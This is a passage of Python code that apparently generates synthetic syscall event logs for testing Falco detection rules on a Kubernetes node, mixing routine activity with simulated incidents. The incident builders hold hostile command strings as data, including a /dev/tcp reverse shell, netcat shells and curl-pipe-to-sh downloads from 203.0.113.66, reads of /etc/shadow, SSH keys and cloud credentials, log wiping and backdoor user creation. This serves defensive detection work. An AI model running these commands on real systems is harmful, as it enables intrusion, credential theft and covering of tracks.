    "close": bg_fd_plain, "fstat": bg_fd_plain, "lseek": bg_fd_plain, "fcntl": bg_fd_plain,
    "ioctl": bg_fd_plain, "getdents64": bg_fd_plain, "mmap": generic_res,
    "newfstatat": bg_file_meta, "stat": bg_file_meta, "access": bg_file_meta, "chdir": bg_file_meta,
    "getcwd": bg_file_meta,
    "connect": bg_connect, "accept": bg_accept, "accept4": bg_accept, "sendto": bg_sendrecv, "recvfrom": bg_sendrecv, "sendmsg": bg_sendrecv,
    "recvmsg": bg_sendrecv, "getsockopt": bg_sendrecv, "setsockopt": bg_sendrecv,
    "shutdown": bg_sendrecv, "bind": bg_sendrecv, "listen": bg_sendrecv,
    "socket": bg_socket, "dup": bg_dup, "dup2": bg_dup, "dup3": bg_dup,
    "clone": bg_clone, "clone3": bg_clone, "fork": bg_clone, "vfork": bg_clone,
    "unlinkat": bg_unlink, "unlink": bg_unlink, "rmdir": bg_unlink,
    "renameat2": bg_rename, "rename": bg_rename, "mkdirat": bg_mkdir,
    "fchmodat": bg_chmod, "chmod": bg_chmod, "fchmod": bg_chmod, "symlinkat": bg_symlink,
    "linkat": bg_link, "setuid": bg_setuid, "setresuid": bg_setuid, "setgid": bg_setuid,
    "setns": bg_setns, "unshare": bg_setns, "ptrace": bg_ptrace, "bpf": bg_bpf,
}

ROLES = {t: "net" for t in ["connect", "accept", "accept4", "sendto", "recvfrom", "sendmsg", "recvmsg",
                            "socket", "bind", "listen", "getsockopt", "setsockopt", "shutdown"]}
ROLES.update({"setuid": "root", "setgid": "root", "setresuid": "root", "setns": "ns", "unshare": "unshare"})


class Gen:
    def __init__(self, rng, incident_rate):
        self.rng = rng
        self.node = Node(rng)
        self.ts = T0
        self.incident_rate = incident_rate
        self.types = [t for t, _ in MIX]
        self.cum = []
        acc = 0
        for _, w in MIX:
            acc += w
            self.cum.append(acc)
        self.total = acc
        self.type_counts = {}
        self.incident_counts = {}

    def tick(self):
        self.ts += 1 + int(self.rng.expovariate(1.0 / MEAN_GAP_NS))
        return self.ts

    def line(self, etype, p, fields, direction="<"):
        self.type_counts[etype] = self.type_counts.get(etype, 0) + 1
        extra = json.dumps(fields, separators=(",", ":"))[1:-1] if fields else ""
        body = p.frag + ("," + extra if extra else "")
        return '{"ts":%d,"evt.type":"%s","evt.dir":"%s","fields":{%s}}' % (
            self.tick(), etype, direction, body)

    def pick_type(self):
        x = self.rng.random() * self.total
        lo, hi = 0, len(self.cum)
        while lo < hi:
            mid = (lo + hi) // 2
            if self.cum[mid] <= x:
                lo = mid + 1
            else:
                hi = mid
        return self.types[lo]

    def events(self):
        """Yields lines forever: background events with incidents mixed in."""
        rng = self.rng
        while True:
            if rng.random() < self.incident_rate:
                name, fn = pick_incident(rng)
                self.incident_counts[name] = self.incident_counts.get(name, 0) + 1
                for etype, p, fields in fn(self.node, rng, self.ts):
                    yield self.line(etype, p, fields)
                continue
            etype = self.pick_type()
            if etype == "execve":
                for line in self.background_exec():
                    yield line
                continue
            if etype == "procexit":
                p = self.node.pick()
                yield self.line("procexit", p, {"evt.arg.status": 0}, ">")
                continue
            p = self.node.pick(ROLES.get(etype))
            fn = BUILDERS.get(etype, generic_res)
            f = fn(self.node, p, rng, self.ts)
            if isinstance(f, tuple):
                f, p = f
            yield self.line(etype, p, f)

    def background_exec(self):
        """A new process, as the node starts them all day long."""
        rng, n = self.rng, self.node
        r = rng.random()
        if r < 0.30:      # health / readiness probes: runc exec without a terminal
            key = rng.choice(["db", "cache", "web", "api"])
            c = n.c[key]
            runc = Proc("runc", "/usr/bin/runc", "--root /run/containerd/runc/k8s.io exec", n.shims[key], "root")
            cmd = {"db": ("sh", "/bin/sh", "-c pg_isready -U shop -h 127.0.0.1"),
                   "cache": ("redis-cli", "/usr/local/bin/redis-cli", "ping"),
                   "web": ("sh", "/bin/sh", "-c curl -sf http://127.0.0.1:8080/healthz"),
                   "api": ("node", "/usr/local/bin/node", "healthcheck.js")}[key]
            p = Proc(cmd[0], cmd[1], cmd[2], runc, "root", c, vpid=rng.randrange(100, 3000))
        elif r < 0.45:    # kubelet and containerd helpers on the host
            name, exe, args = rng.choice([
                ("iptables", "/usr/sbin/iptables", "-w 5 -W 100000 -S KUBE-KUBELET-CANARY -t mangle"),
                ("ip6tables", "/usr/sbin/ip6tables", "-w 5 -W 100000 -S KUBE-KUBELET-CANARY -t mangle"),
                ("mount", "/usr/bin/mount", "-t tmpfs tmpfs /var/lib/kubelet/pods/x/volumes/kubernetes.io~projected/kube-api-access"),
                ("umount", "/usr/bin/umount", "/var/lib/kubelet/pods/x/volumes"),
                ("nsenter", "/usr/bin/nsenter", "--net=/var/run/netns/cni-1234 -F -- ip -o -4 addr show dev eth0"),
            ])
            p = Proc(name, exe, args, n.kubelet, "root")
        elif r < 0.62:    # cron jobs
            sh = Proc("sh", "/bin/sh", "-c run-parts --report /etc/cron.hourly", Proc("cron", "/usr/sbin/cron", "-f -P", n.cron, "root"), "root")
            name, exe, args = rng.choice([
                ("run-parts", "/usr/bin/run-parts", "--report /etc/cron.hourly"),
                ("logrotate", "/usr/sbin/logrotate", "/etc/logrotate.conf"),
                ("find", "/usr/bin/find", "/tmp -type f -mtime +7 -delete"),
                ("sleep", "/usr/bin/sleep", "30"),
            ])
            p = Proc(name, exe, args, sh, "root")
        elif r < 0.85:    # the admin at work
            parent = n.admin_shell if rng.random() < 0.7 else n.root_shell
            name, exe, args = rng.choice([
                ("ls", "/usr/bin/ls", "--color=auto -la"), ("ps", "/usr/bin/ps", "aux"),
                ("grep", "/usr/bin/grep", "-i error /var/log/syslog"), ("cat", "/usr/bin/cat", "/etc/os-release"),
                ("kubectl", "/usr/local/bin/kubectl", "get pods -A"), ("vim", "/usr/bin/vim", "notes.txt"),
                ("git", "/usr/bin/git", "status"), ("top", "/usr/bin/top", ""),
                ("journalctl", "/usr/bin/journalctl", "-u kubelet --since -10m"),
                ("less", "/usr/bin/less", "/var/log/syslog"), ("df", "/usr/bin/df", "-h"),
                ("bash", "/usr/bin/bash", ""), ("crictl", "/usr/bin/crictl", "ps"),
                ("curl", "/usr/bin/curl", "-s http://localhost:10248/healthz"),
            ])
            p = Proc(name, exe, args, parent, parent.user, tty=34816, cwd=parent.cwd)
        else:             # workers spawned inside the pods (no shell)
            key, name, exe, args, parent, user = rng.choice([
                ("db", "postgres", "/usr/lib/postgresql/16/bin/postgres", "postgres: autovacuum worker",
                 n.postgres, "postgres"),
                ("web", "nginx", "/usr/sbin/nginx", "-g daemon off;", n.nginx, "www-data"),
                ("worker", "python3", "/usr/local/bin/python3", "-m celery -A tasks worker --loglevel=INFO",
                 n.worker, "app"),
                ("api", "node", "/usr/local/bin/node", "dist/worker.js", n.node_api, "node"),
            ])
            p = Proc(name, exe, args, parent, user, n.c[key], vpid=rng.randrange(100, 3000))
        p.start_ns = self.ts
        yield self.line("clone", p.parent, bg_clone(n, p.parent, rng, self.ts))
        yield self.line("execve", p, exec_fields(p, rng))


def exec_fields(p, rng, env=None, upper=False, memfd=False, caps=None):
    f = {"evt.res": "SUCCESS", "evt.rawres": 0, "proc.is_vpgid_leader": p.tty != 0,
         "proc.is_exe_upper_layer": upper, "proc.is_exe_from_memfd": memfd,
         "proc.env": env or ("PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin "
                             "HOME=%s LANG=C.UTF-8" % ("/root" if p.user == "root" else "/home/" + p.user))}
    if p.container is not None:
        f["evt.arg.flags"] = "EXE_UPPER_LAYER" if upper else "EXE_LOWER_LAYER"
        f["thread.cap_effective"] = caps or DEFAULT_CAPS
        f["thread.cap_permitted"] = caps or DEFAULT_CAPS
    else:
        f["evt.arg.flags"] = "EXE_WRITABLE" if upper else "0"
    return f


# ---------------------------------------------------------------------------
# Incidents: each returns [(evt.type, proc, fields)], usually one event.

def in_container(n, rng, key=None):
    key = key or rng.choice(["web", "php", "api", "worker", "db"])
    return key, n.c[key]


def exec_in(n, rng, name, exepath, args, key=None, parent=None, user="root", tty=0, exe=None, **kw):
    """An execve in a pod's container (by default from a shell in it)."""
    key, c = in_container(n, rng, key)
    parent = parent or Proc("sh", "/bin/sh", "", n.shims[key], "root", c, vpid=rng.randrange(50, 500))
    p = Proc(name, exepath, args, parent, user, c, tty=tty, vpid=rng.randrange(50, 5000), exe=exe)
    return [("execve", p, exec_fields(p, rng, **kw))]


def exec_host(n, rng, name, exepath, args, parent=None, user=None, tty=None, exe=None, **kw):
    """An execve on the host (by default from the admin's shell)."""
    parent = parent or n.admin_shell
    p = Proc(name, exepath, args, parent, user or parent.user, tty=parent.tty if tty is None else tty,
             cwd=parent.cwd, exe=exe)
    return [("execve", p, exec_fields(p, rng, **kw))]


def open_by(p, path, write, rng, ts, **kw):
    return [("openat", p, file_open(p, path, write, rng, ts, **kw))]


def i_terminal_shell(n, rng, ts):
    key, c = in_container(n, rng)
    runc = Proc("runc", "/usr/bin/runc", "--root /run/containerd/runc/k8s.io exec -t", n.shims[key], "root")
    p = Proc(rng.choice(["bash", "sh"]), "/bin/bash", "", runc, "root", c, tty=34817, vpid=rng.randrange(50, 900))
    return [("execve", p, exec_fields(p, rng))]


def i_shadow_read(n, rng, ts):
    key, c = in_container(n, rng)
    sh = Proc("bash", "/bin/bash", "", n.shims[key], "root", c, tty=34817, vpid=77)
    p = Proc("cat", "/usr/bin/cat", "/etc/shadow", sh, "root", c, tty=34817, vpid=rng.randrange(80, 900))
    return open_by(p, rng.choice(["/etc/shadow", "/etc/sudoers", "/etc/pam.d/common-auth"]), False, rng, ts)


def i_shadow_read_trusted(n, rng, ts):
    return open_by(n.nginx_worker, "/etc/shadow", False, rng, ts)


def i_dir_traversal(n, rng, ts):
    f = file_open(n.php_worker, "/etc/passwd", False, rng, ts)
    f["fd.nameraw"] = "/var/www/html/../../../etc/passwd"
    return [("openat", n.php_worker, f)]


def i_web_shell(n, rng, ts):
    parent = rng.choice([n.nginx_worker, n.php_worker])
    return exec_in(n, rng, "sh", "/bin/sh", "-c id; uname -a; cat /etc/passwd", key="web", parent=parent,
                   user="www-data")


def i_reverse_shell(n, rng, ts):
    p = Proc("bash", "/bin/bash", "-c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", n.php_worker, "www-data",
             n.c["php"], vpid=612)
    conn = sock_fields(n, p, rng, inbound=False, server="203.0.113.66", sport=4444)
    conn.update({"fd.num": 3, "evt.res": "SUCCESS", "evt.rawres": 0})
    dup = dict(conn, **{"fd.num": 0, "evt.res": "0", "evt.rawres": 0})
    return [("execve", p, exec_fields(p, rng)), ("connect", p, conn), ("dup2", p, dup)]


def i_search_keys(n, rng, ts):
    return exec_host(n, rng, "grep", "/usr/bin/grep", "-r BEGIN RSA PRIVATE /home", parent=n.root_shell)


def i_find_aws(n, rng, ts):
    return exec_in(n, rng, "find", "/usr/bin/find", "/ -path */.aws/credentials")


def i_clear_log(n, rng, ts):
    p = Proc("truncate", "/usr/bin/truncate", "-s 0 /var/log/auth.log", n.root_shell, "root", tty=34816)
    return open_by(p, "/var/log/auth.log", True, rng, ts, flags="O_WRONLY|O_CREAT|O_TRUNC")


def i_shred(n, rng, ts):
    return exec_host(n, rng, "shred", "/usr/bin/shred", "-u -z /root/.bash_history", parent=n.root_shell)


def i_symlink_shadow(n, rng, ts):
    p = Proc("ln", "/usr/bin/ln", "-s /etc/shadow /tmp/s", n.admin_shell, "ubuntu", tty=34816)
    return [("symlinkat", p, {"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/s",
                              "evt.res": "SUCCESS", "evt.rawres": 0})]


def i_hardlink_shadow(n, rng, ts):
    p = Proc("ln", "/usr/bin/ln", "/etc/shadow /tmp/h", n.root_shell, "root", tty=34816)
    return [("linkat", p, {"evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/tmp/h",
                           "evt.res": "SUCCESS", "evt.rawres": 0})]


def i_packet_socket(n, rng, ts):
    key, c = in_container(n, rng)
    p = Proc("tcpdump", "/usr/bin/tcpdump", "-i eth0 -w /tmp/cap.pcap", n.shims[key], "root", c, vpid=400)
    return [("socket", p, {"evt.arg.domain": "AF_PACKET", "evt.arg.type": "SOCK_RAW", "fd.num": 3,
                           "evt.res": "3", "evt.rawres": 3})]


def i_kmod(n, rng, ts):
    key, c = in_container(n, rng)
    p = Proc("insmod", "/usr/sbin/insmod", "/tmp/rootkit.ko", n.shims[key], "root", c, vpid=300)
    return [("finit_module", p, {"thread.cap_effective": ALL_CAPS.lower(), "evt.res": "SUCCESS",
                                 "evt.rawres": 0, "evt.arg.fd": 3})]


def i_debugfs(n, rng, ts):
    c = Container(hexid(rng), "debug", "docker.io/library/ubuntu", "default", "debug-pod", privileged=True)
    p = Proc("debugfs", "/usr/sbin/debugfs", "/dev/sda1", Proc("bash", "/bin/bash", "", n.containerd, "root", c, vpid=1),
             "root", c, vpid=40)
    return [("execve", p, exec_fields(p, rng, caps=ALL_CAPS))]


def i_release_agent(n, rng, ts):
    key, c = in_container(n, rng)
    p = Proc("sh", "/bin/sh", "-c echo /cmd > /tmp/cgrp/release_agent", n.shims[key], "root", c, vpid=66)
    f = file_open(p, "/tmp/cgrp/release_agent", True, rng, ts, flags="O_WRONLY|O_CREAT|O_TRUNC")
    f["thread.cap_effective"] = ALL_CAPS
    return [("openat", p, f)]


def i_ptrace(n, rng, ts):
    p = Proc("gdb", "/usr/bin/gdb", "-p 4242", n.root_shell, "root", tty=34816)
    return [("ptrace", p, {"evt.arg.request": rng.choice(["PTRACE_ATTACH", "PTRACE_POKETEXT", "PTRACE_SEIZE"]),
                           "evt.arg.pid": 4242, "evt.res": "SUCCESS", "evt.rawres": 0})]


def i_ptrace_traceme(n, rng, ts):
    p = Proc("packed", "/tmp/packed", "", n.admin_shell, "ubuntu", tty=34816)
    return [("ptrace", p, {"evt.arg.request": "PTRACE_TRACEME", "evt.res": "SUCCESS", "evt.rawres": 0})]


def i_dev_shm(n, rng, ts):
    return exec_in(n, rng, "payload", "/dev/shm/payload", "-d", exe="/dev/shm/payload")


def i_drop_exec(n, rng, ts):
    return exec_in(n, rng, "xmr", "/tmp/xmr", "--donate-level 1", upper=True)


def i_ssh_port(n, rng, ts):
    p = Proc("ssh", "/usr/bin/ssh", "-p 443 op@203.0.113.9", n.admin_shell, "ubuntu", tty=34816)
    f = sock_fields(n, p, rng, inbound=False, server="203.0.113.9", sport=443)
    f.update({"fd.num": 3, "evt.res": "SUCCESS", "evt.rawres": 0})
    return [("connect", p, f)]


def i_memfd(n, rng, ts):
    return exec_in(n, rng, "3", "memfd:payload", "", memfd=True)


def i_k8s_api(n, rng, ts):
    p = n.worker if rng.random() < 0.5 else n.node_api
    sip, sport, proto, sname = PEERS["k8s"]
    f = sock_fields(n, p, rng, inbound=False, server=sip, sport=sport, sname=sname)
    f.update({"fd.num": 12, "evt.res": "SUCCESS", "evt.rawres": 0})
    return [("connect", p, f)]


def i_netcat(n, rng, ts):
    return exec_in(n, rng, "nc", "/usr/bin/nc", "-e /bin/sh 203.0.113.66 4444")


def i_shell_rc(n, rng, ts):
    p = Proc("python3", "/usr/bin/python3", "/tmp/x.py", n.admin_shell, "ubuntu", tty=34816)
    return open_by(p, "/home/ubuntu/.bashrc", True, rng, ts, flags="O_WRONLY|O_APPEND")


def i_crontab(n, rng, ts):
    return exec_host(n, rng, "crontab", "/usr/bin/crontab", "-e", parent=n.root_shell)


def i_ssh_read(n, rng, ts):
    p = Proc("cat", "/usr/bin/cat", "/root/.ssh/id_rsa", n.root_shell, "root", tty=34816)
    return open_by(p, "/root/.ssh/id_rsa", False, rng, ts)


def i_db_spawn(n, rng, ts):
    return exec_in(n, rng, "sh", "/bin/sh", "-c curl http://203.0.113.66/x | sh", key="db", parent=n.pg_backend,
                   user="postgres")


def i_setns(n, rng, ts):
    p = Proc("ip", "/usr/sbin/ip", "netns exec cni-1234 sh", n.root_shell, "root", tty=34816)
    return [("setns", p, bg_setns(n, p, rng, ts))]


def i_unshare(n, rng, ts):
    key, c = in_container(n, rng)
    p = Proc("unshare", "/usr/bin/unshare", "-Urm", n.shims[key], "app", c, vpid=90)
    return [("unshare", p, {"thread.cap_permitted": DEFAULT_CAPS, "evt.arg.flags": "CLONE_NEWUSER|CLONE_NEWNS",
                            "evt.res": "SUCCESS", "evt.rawres": 0})]


def container_init(n, rng, c, caps=DEFAULT_CAPS, mounts=None):
    p = Proc("entrypoint.sh", "/usr/local/bin/entrypoint.sh", "", n.containerd, "root", c, vpid=1)
    f = exec_fields(p, rng, caps=caps)
    for m in SENSITIVE_MOUNTS:
        f["container.mount.dest[%s]" % m] = (mounts or {}).get(m, "<NA>")
    return [("execve", p, f)]


def i_system_user_login(n, rng, ts):
    sess = Proc("sshd", "/usr/sbin/sshd", "-D -R", n.sshd, "root")
    return exec_host(n, rng, "bash", "/usr/bin/bash", "-i", parent=sess, user="www-data", tty=34817)


def i_priv_container(n, rng, ts):
    c = Container(hexid(rng), "node-agent", "docker.io/library/ubuntu", "default", "agent-x1", privileged=True)
    return container_init(n, rng, c, caps=ALL_CAPS)


def i_capable_container(n, rng, ts):
    c = Container(hexid(rng), "netdebug", "docker.io/nicolaka/netshoot", "default", "netdebug-x2")
    return container_init(n, rng, c, caps=DEFAULT_CAPS + " CAP_NET_ADMIN CAP_SYS_PTRACE")


def i_sensitive_mount(n, rng, ts):
    c = Container(hexid(rng), "dind", "docker.io/library/docker", "ci", "runner-x3")
    return container_init(n, rng, c, mounts={"/var/run/docker.sock": "/var/run/docker.sock"})


def i_normal_container_start(n, rng, ts):
    c = Container(hexid(rng), "job", "registry.example.com/shop/report-job", "shop", "report-28391")
    return container_init(n, rng, c)


def i_sysproc_net(n, rng, ts):
    p = Proc("sleep", "/usr/bin/sleep", "9999", n.admin_shell, "ubuntu", tty=34816)
    f = sock_fields(n, p, rng, inbound=False, server="203.0.113.66", sport=8443)
    f.update({"fd.num": 3, "evt.res": "SUCCESS", "evt.rawres": 0})
    return [("connect", p, f)]


def i_http_proxy(n, rng, ts):
    return exec_host(n, rng, "curl", "/usr/bin/curl", "-s https://example.com",
                     env="HTTP_PROXY=http://203.0.113.5:3128 PATH=/usr/bin HOME=/home/ubuntu")


def i_udp(n, rng, ts):
    p = n.worker
    f = sock_fields(n, p, rng, inbound=False, server="198.51.100.77", sport=5353, proto="udp")
    f.update({"fd.num": 9, "evt.res": "SUCCESS", "evt.rawres": 0})
    return [("connect", p, f)]


def i_setuid(n, rng, ts):
    key, c = in_container(n, rng, "worker")
    p = Proc("python3", "/usr/local/bin/python3", "/tmp/esc.py", n.worker, "app", c, vpid=400)
    return [("setuid", p, {"evt.arg.uid": "root", "evt.res": "EPERM", "evt.rawres": -1})]


def i_user_mgmt(n, rng, ts):
    return exec_host(n, rng, "useradd", "/usr/sbin/useradd", "-m -s /bin/bash backdoor", parent=n.root_shell)


def i_dev_create(n, rng, ts):
    p = Proc("python3", "/usr/bin/python3", "/tmp/x.py", n.root_shell, "root", tty=34816)
    f = file_open(p, "/dev/.hidden", True, rng, ts, flags="O_WRONLY|O_CREAT|O_TRUNC")
    return [("openat", p, f)]


def i_metadata(n, rng, ts):
    key, c = in_container(n, rng)
    p = Proc("curl", "/usr/bin/curl", "-s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
             n.shims[key], "root", c, vpid=320)
    f = sock_fields(n, p, rng, inbound=False, server="169.254.169.254", sport=80)
    f.update({"fd.num": 5, "evt.res": "EINPROGRESS", "evt.rawres": -115})
    return [("connect", p, f)]


def i_pkg_mgmt(n, rng, ts):
    return exec_in(n, rng, "apt-get", "/usr/bin/apt-get", "install -y nmap")


def i_nettool_container(n, rng, ts):
    return exec_in(n, rng, "nmap", "/usr/bin/nmap", "-sS 10.244.0.0/16")


def i_nettool_host(n, rng, ts):
    return exec_host(n, rng, "tcpdump", "/usr/sbin/tcpdump", "-i any port 443", parent=n.root_shell)


def i_del_history(n, rng, ts):
    p = Proc("rm", "/usr/bin/rm", "-f /root/.bash_history", n.root_shell, "root", tty=34816)
    return [("unlinkat", p, {"evt.arg.name": "/root/.bash_history", "evt.res": "SUCCESS", "evt.rawres": 0})]


def i_setuid_bit(n, rng, ts):
    p = Proc("chmod", "/usr/bin/chmod", "u+s /tmp/sh", n.root_shell, "root", tty=34816)
    return [("fchmodat", p, {"evt.arg.filename": "/tmp/sh", "evt.arg.mode": "S_ISUID|S_IRWXU|S_IXGRP|S_IXOTH",
                             "evt.res": "SUCCESS", "evt.rawres": 0})]


def i_remote_copy(n, rng, ts):
    return exec_in(n, rng, "scp", "/usr/bin/scp", "/srv/reports/daily.csv op@203.0.113.9:/tmp/")


def i_mount_priv(n, rng, ts):
    c = Container(hexid(rng), "debug", "docker.io/library/ubuntu", "default", "debug-pod", privileged=True)
    p = Proc("mount", "/usr/bin/mount", "/dev/sda1 /mnt", Proc("bash", "/bin/bash", "", n.containerd, "root", c, vpid=1),
             "root", c, vpid=41)
    return [("execve", p, exec_fields(p, rng, caps=ALL_CAPS))]


def i_wget(n, rng, ts):
    return exec_in(n, rng, "wget", "/usr/bin/wget", "http://203.0.113.66/x.sh -O /tmp/x.sh")


def i_proc_environ(n, rng, ts):
    key, c = in_container(n, rng)
    p = Proc("cat", "/bin/cat", "/proc/1/environ", n.shims[key], "root", c, vpid=210)
    return open_by(p, "/proc/1/environ", False, rng, ts)


def i_kubectl_cp(n, rng, ts):
    key, c = in_container(n, rng, "worker")
    p = Proc("tar", "/bin/tar", "cf - /srv/reports", Proc("runc", "/usr/bin/runc", "exec", n.shims[key], "root"),
             "root", c, vpid=230)
    return open_by(p, "/srv/reports/daily.csv", False, rng, ts)


def i_authorized_keys(n, rng, ts):
    p = Proc("bash", "/bin/bash", "-c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", n.admin_shell,
             "root", tty=34816)
    p2 = Proc("tee", "/usr/bin/tee", "-a /root/.ssh/authorized_keys", p, "root", tty=34816)
    return open_by(p2, "/root/.ssh/authorized_keys", True, rng, ts, flags="O_WRONLY|O_APPEND|O_CREAT")


def i_glibc_tunables(n, rng, ts):
    return exec_host(n, rng, "su", "/usr/bin/su", "--help",
                     env="GLIBC_TUNABLES=glibc.tune.malloc=AAAA PATH=/usr/bin HOME=/home/ubuntu")


def i_liblzma(n, rng, ts):
    return open_by(n.sshd, "/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1", False, rng, ts)


def i_bpf(n, rng, ts):
    p = Proc("loader", "/tmp/loader", "", n.root_shell, "root", tty=34816)
    return [("bpf", p, {"evt.arg.cmd": "BPF_PROG_LOAD", "evt.res": "SUCCESS", "evt.rawres": 5})]


def i_pkg_repo(n, rng, ts):
    p = Proc("tee", "/usr/bin/tee", "/etc/apt/sources.list.d/evil.list", n.root_shell, "root", tty=34816)
    return open_by(p, "/etc/apt/sources.list.d/evil.list", True, rng, ts, flags="O_WRONLY|O_CREAT|O_TRUNC")


def i_write_bin(n, rng, ts):
    p = Proc("curl", "/usr/bin/curl", "-o /usr/bin/kubectl2 http://203.0.113.66/k", n.root_shell, "root", tty=34816)
    return open_by(p, "/usr/bin/kubectl2", True, rng, ts, flags="O_WRONLY|O_CREAT|O_TRUNC")


def i_write_monitored(n, rng, ts):
    p = Proc("cp", "/usr/bin/cp", "/tmp/x /usr/local/bin/x", n.root_shell, "root", tty=34816)
    return open_by(p, "/usr/local/bin/x", True, rng, ts, flags="O_WRONLY|O_CREAT|O_TRUNC")


def i_write_etc(n, rng, ts):
    p = Proc("vim", "/usr/bin/vim", "/etc/hosts", n.root_shell, "root", tty=34816)
    return open_by(p, rng.choice(["/etc/hosts", "/etc/ssh/sshd_config", "/etc/systemd/system/evil.service"]),
                   True, rng, ts, flags="O_WRONLY|O_CREAT|O_TRUNC")


def i_write_root(n, rng, ts):
    p = Proc("python3", "/usr/bin/python3", "/tmp/x.py", n.root_shell, "root", tty=34816)
    return open_by(p, "/root/.implant", True, rng, ts, flags="O_WRONLY|O_CREAT|O_TRUNC")


def i_rpm_db(n, rng, ts):
    p = Proc("python3", "/usr/bin/python3", "/tmp/x.py", n.root_shell, "root", tty=34816)
    return open_by(p, "/var/lib/rpm/Packages", True, rng, ts, flags="O_RDWR")


def i_modify_bin(n, rng, ts):
    p = Proc("rm", "/usr/bin/rm", "-f /usr/bin/last", n.root_shell, "root", tty=34816)
    return [("unlinkat", p, {"evt.arg.name": "/usr/bin/last", "evt.res": "SUCCESS", "evt.rawres": 0})]


def i_mkdir_bin(n, rng, ts):
    p = Proc("mkdir", "/usr/bin/mkdir", "/usr/bin/.cache", n.root_shell, "root", tty=34816)
    return [("mkdirat", p, {"evt.arg.path": "/usr/bin/.cache", "evt.arg.mode": "0755", "evt.res": "SUCCESS",
                            "evt.rawres": 0})]


def i_stratum(n, rng, ts):
    return exec_in(n, rng, "xmrig", "/tmp/xmrig", "-o stratum+tcp://pool.example:3333 -u wallet")


def i_kubectl_container(n, rng, ts):
    return exec_in(n, rng, "kubectl", "/usr/local/bin/kubectl", "get secrets -A", key="api")


def i_sudo_cve(n, rng, ts):
    return exec_host(n, rng, "sudoedit", "/usr/bin/sudoedit", "-s \\ 1234567890", parent=n.admin_shell)


def i_userfaultfd(n, rng, ts):
    p = Proc("exploit", "/tmp/exploit", "", n.admin_shell, "ubuntu", tty=34816)
    return [("userfaultfd", p, {"evt.res": "4", "evt.rawres": 4, "evt.arg.flags": "O_CLOEXEC|O_NONBLOCK"})]


def i_pkexec(n, rng, ts):
    return exec_host(n, rng, "pkexec", "/usr/bin/pkexec", "", parent=n.admin_shell)


def i_base64(n, rng, ts):
    return exec_in(n, rng, "base64", "/usr/bin/base64", "-d /tmp/p.b64")


def i_recon(n, rng, ts):
    return exec_host(n, rng, rng.choice(["whoami", "id", "uname"]), "/usr/bin/whoami", "", parent=n.admin_shell)


def i_netcat_host(n, rng, ts):
    return exec_host(n, rng, "nc", "/usr/bin/nc", "-c /bin/sh -l -p 4444", parent=n.root_shell)


def i_npm_nettool(n, rng, ts):
    npm = Proc("npm", "/usr/local/bin/npm", "install", n.shims["api"], "node", n.c["api"], vpid=31)
    sh = Proc("sh", "/bin/sh", "-c node install.js", npm, "node", n.c["api"], vpid=32)
    return exec_in(n, rng, "nc", "/usr/bin/nc", "203.0.113.66 9001", key="api", parent=sh, user="node")


def i_miner(n, rng, ts):
    return exec_host(n, rng, "xmrig", "/tmp/.x/xmrig", "--config=/tmp/.x/config.json", parent=n.admin_shell,
                     tty=0)


def i_web_child(n, rng, ts):
    return exec_in(n, rng, "curl", "/usr/bin/curl", "-s http://203.0.113.66/stage2", key="web",
                   parent=n.nginx_worker, user="www-data")


def i_dev_access(n, rng, ts):
    c = Container(hexid(rng), "debug", "docker.io/library/ubuntu", "default", "debug-pod", privileged=True)
    p = Proc("dd", "/bin/dd", "if=/dev/sda of=/tmp/disk.img", n.containerd, "root", c, vpid=50)
    return open_by(p, "/dev/sda", False, rng, ts)


def i_host_path(n, rng, ts):
    key, c = in_container(n, rng)
    p = Proc("cat", "/bin/cat", "/host/etc/shadow", n.shims[key], "root", c, vpid=51)
    return open_by(p, "/host/etc/shadow", False, rng, ts)


# Near-misses the rules' exceptions exist for; counted as incidents too.
def n_chkpwd(n, rng, ts):
    p = Proc("unix_chkpwd", "/usr/sbin/unix_chkpwd", "ubuntu nullok", n.sshd, "root")
    return open_by(p, "/etc/shadow", False, rng, ts)


def n_bash_history(n, rng, ts):
    return open_by(n.admin_shell, "/home/ubuntu/.bash_history", True, rng, ts, flags="O_WRONLY|O_APPEND|O_CREAT")


def n_dev_null(n, rng, ts):
    return open_by(n.root_shell, "/dev/null", True, rng, ts, flags="O_WRONLY|O_CREAT|O_TRUNC")


def n_dpkg_etc(n, rng, ts):
    p = Proc("dpkg", "/usr/bin/dpkg", "--configure -a", n.root_shell, "root", tty=34816)
    return open_by(p, "/etc/ld.so.conf.d/x86_64-linux-gnu.conf", True, rng, ts, flags="O_WRONLY|O_CREAT|O_TRUNC")


INCIDENTS = [
    # falco_rules.yaml
    ("terminal_shell_in_container", 6, i_terminal_shell),
    ("read_sensitive_file_untrusted", 5, i_shadow_read),
    ("read_sensitive_file_trusted_after_startup", 1, i_shadow_read_trusted),
    ("directory_traversal", 1, i_dir_traversal),
    ("web_server_shell", 3, i_web_shell),
    ("reverse_shell", 1, i_reverse_shell),
    ("search_private_keys", 1, i_search_keys),
    ("find_aws_credentials", 1, i_find_aws),
    ("clear_log", 1, i_clear_log),
    ("shred", 1, i_shred),
    ("symlink_shadow", 1, i_symlink_shadow),
    ("hardlink_shadow", 1, i_hardlink_shadow),
    ("packet_socket_in_container", 1, i_packet_socket),
    ("kernel_module_in_container", 1, i_kmod),
    ("debugfs_privileged", 1, i_debugfs),
    ("release_agent", 1, i_release_agent),
    ("ptrace_attach", 2, i_ptrace),
    ("ptrace_traceme", 1, i_ptrace_traceme),
    ("exec_dev_shm", 1, i_dev_shm),
    ("drop_and_exec", 2, i_drop_exec),
    ("ssh_non_standard_port", 1, i_ssh_port),
    ("memfd_exec", 1, i_memfd),
    ("k8s_api_from_container", 4, i_k8s_api),
    ("netcat_in_container", 1, i_netcat),
    ("system_user_interactive", 1, i_system_user_login),
    # falco-incubating_rules.yaml
    ("modify_shell_rc", 1, i_shell_rc),
    ("crontab", 2, i_crontab),
    ("read_ssh_key", 2, i_ssh_read),
    ("db_spawned_shell", 1, i_db_spawn),
    ("setns_unexpected", 1, i_setns),
    ("unshare_in_container", 1, i_unshare),
    ("privileged_container", 1, i_priv_container),
    ("capable_container", 1, i_capable_container),
    ("sensitive_mount_container", 1, i_sensitive_mount),
    ("system_proc_network", 1, i_sysproc_net),
    ("http_proxy_env", 1, i_http_proxy),
    ("unexpected_udp", 1, i_udp),
